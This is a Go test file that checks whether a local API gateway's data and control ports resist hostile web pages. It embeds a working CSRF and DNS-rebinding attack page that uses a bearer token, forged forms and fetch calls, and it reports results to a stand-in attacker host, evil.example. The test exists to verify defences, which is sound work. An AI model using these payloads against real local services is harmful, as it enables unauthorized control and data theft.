package gateway_test

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"parity/faults/trail"
	"parity/gateway/client"
)

// attack is what a hostile page does. It knows the operator's token, so that
// what holds is not the token alone. told has what came of each try.
const attack = `<!doctype html><title>prize</title><iframe name=hole></iframe><script>
const told = {}, pause = ms => new Promise(done => setTimeout(done, ms));
const form = (to, kind) => { const f = document.createElement('form'); f.method = 'POST'; f.action = to; f.enctype = kind; f.target = 'hole';
  f.innerHTML = '<input name=token value=xoxb-1><input name=name value=eve>'; document.body.append(f); f.submit(); };
const ask = async (name, to, o) => { try { const r = await fetch(to, o); told[name] = r.type === 'opaque' ? 'opaque' : r.status + ' ' + (await r.text()).slice(0, 1000); }
  catch (e) { told[name] = 'refused'; } };
const body = () => new URLSearchParams({token: 'xoxb-1', name: 'eve'}), bearer = {Authorization: 'Bearer TOKEN', 'Content-Type': 'application/json'};
(async () => {
  for (const at of AT) {
    await ask('data ' + at.name, at.data + '/slack/api/conversations.create', {method: 'POST', mode: at.mode, body: body()});
    await ask('data read ' + at.name, at.data + '/slack/api/conversations.create?token=xoxb-1&name=eve', {mode: at.mode});
    await ask('data with run ' + at.name, at.data + '/slack/api/conversations.create', {method: 'POST', headers: {'Parity-Run': 'RUN'}, body: body()});
    await ask('control ' + at.name, at.control + '/v1/runs', {method: 'POST', headers: bearer, body: '{"names": ["owned"]}'});
    await ask('control removes ' + at.name, at.control + '/v1/runs/RUN', {method: 'DELETE', headers: bearer});
    await ask('control as text ' + at.name, at.control + '/v1/runs', {method: 'POST', mode: at.mode, body: '{"names": ["owned"]}'});
    await ask('control reads ' + at.name, at.control + '/v1/gateway', {headers: bearer});
    await ask('metrics ' + at.name, at.control + '/metrics', {});
  }
  if (AT[0].mode === 'no-cors') {
    new Image().src = AT[0].data + '/slack/api/conversations.create?token=xoxb-1&name=image';
    form(AT[0].data + '/slack/api/conversations.create', 'application/x-www-form-urlencoded'); await pause(300);
    form(AT[0].control + '/v1/runs', 'text/plain'); await pause(300);
  }
  await fetch('TELL', {method: 'POST', mode: 'no-cors', body: JSON.stringify(told)});
})();
</script>`

// A hostile page in a browser of this machine, at a site of its own and at a
// name that is pointed at the gateway once it is shown, gets nothing done at
// either port.
func TestHostilePagesGetNothingDone(t *testing.T) {
	t.Parallel()
	name := ""
	for _, known := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if found, err := exec.LookPath(known); err == nil && name == "" {
			name = found
		}
	}
	if name == "" {
		t.Skip("no Chromium is installed: what a hostile page gets done is not tested")
	}
	h := open(t, strings.Replace(quiet, "stripe", "slack", 1), shared)
	h.make(client.NewRun{Names: []string{"kept"}})
	told := make(chan map[string]string, 4)
	page := ""
	evil := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodPost {
			var got map[string]string
			text, _ := io.ReadAll(r.Body)
			if err := json.Unmarshal(text, &got); err != nil {
				t.Errorf("%v in %q", err, text)
			}
			told <- got
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, page)
	}))
	t.Cleanup(evil.Close)
	_, port, _ := net.SplitHostPort(evil.Listener.Addr().String())
	site := "http://evil.example:" + port
	hostile := func(at string) string {
		return strings.NewReplacer("AT)", at+")", "AT[", at+"[", "TOKEN", controlToken, "RUN", "kept", "TELL", site+"/tell").Replace(attack)
	}

	page = hostile(fmt.Sprintf(`[{name: 'abroad', mode: 'no-cors', data: 'http://%s', control: 'http://%s'}]`, h.Addr(), h.Control()))
	for name, at := range map[string]string{"data": h.Addr(), "control": h.Control()} {
		again := hostile(`[{name: 'rebound at ` + name + `', mode: 'same-origin', data: location.origin, control: location.origin}]`)
		page += `<iframe src="http://rebound.example:` + rebound(t, again, at) + `/"></iframe>`
	}
	evil.Start()
	show(t, name, site)
	for range 3 {
		select {
		case tries := <-told:
			for what, came := range tries {
				if strings.HasSuffix(what, "abroad") && came != "refused" && came != "opaque" ||
					!strings.HasSuffix(what, "abroad") && (!strings.HasPrefix(came, "403 ") || !strings.Contains(came, "foreign-host")) {
					t.Errorf("%s: the page was told %s", what, came)
				}
			}
		case <-time.After(2 * time.Minute):
			t.Fatal("a page tells nothing")
		}
	}

	denied := 0
	for _, run := range []string{h.Run.ID, "kept"} {
		for _, event := range h.eventsOf(run) {
			if x := event.Exchange; x != nil && x.Outcome == trail.Denied {
				denied++
			} else if x != nil {
				t.Errorf("run %s answered %s %s with %d", run, x.Method, x.Path, x.Status)
			}
		}
	}
	if runs, err := h.control().Runs(t.Context(), client.Live); err != nil || len(runs) != 2 {
		t.Errorf("%d runs, %v", len(runs), err)
	}
	if denied < 4 {
		t.Errorf("%d calls came in: the pages did not do what they were to", denied)
	}
}

// rebound listens at a port that shows a page once, and is from then on what is
// at another address: what a browser meets when a name is pointed elsewhere.
func rebound(t *testing.T, page, at string) (port string) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = l.Close() })
	var shown atomic.Bool
	serve := func(c net.Conn) {
		defer c.Close()
		head := make([]byte, 64<<10) // a browser connects before it knows what to ask
		n, err := c.Read(head)
		if err != nil {
			return
		}
		if shown.CompareAndSwap(false, true) {
			fmt.Fprintf(c, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%s", len(page), page)
			return
		}
		to, err := net.Dial("tcp", at)
		if err != nil {
			return
		}
		defer to.Close()
		_, _ = to.Write(head[:n])
		go func() { _, _ = io.Copy(to, c); _ = to.(*net.TCPConn).CloseWrite() }()
		_, _ = io.Copy(c, to)
	}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go serve(c)
		}
	}()
	_, port, _ = net.SplitHostPort(l.Addr().String())
	return port
}

// show has a browser show a page until the test ends.
func show(t *testing.T, browser, page string) {
	t.Helper()
	profile, err := os.MkdirTemp("", "parity-chromium") // TempDir fails a test whose browser writes a moment longer
	if err != nil {
		t.Fatal(err)
	}
	c := exec.Command(browser, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-dev-shm-usage", "--no-proxy-server",
		"--remote-debugging-port=0", "--host-resolver-rules=MAP *.example 127.0.0.1", "--user-data-dir="+profile, page)
	c.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = syscall.Kill(-c.Process.Pid, syscall.SIGKILL)
		_ = c.Wait() // it was killed
		_ = os.RemoveAll(profile)
	})
}
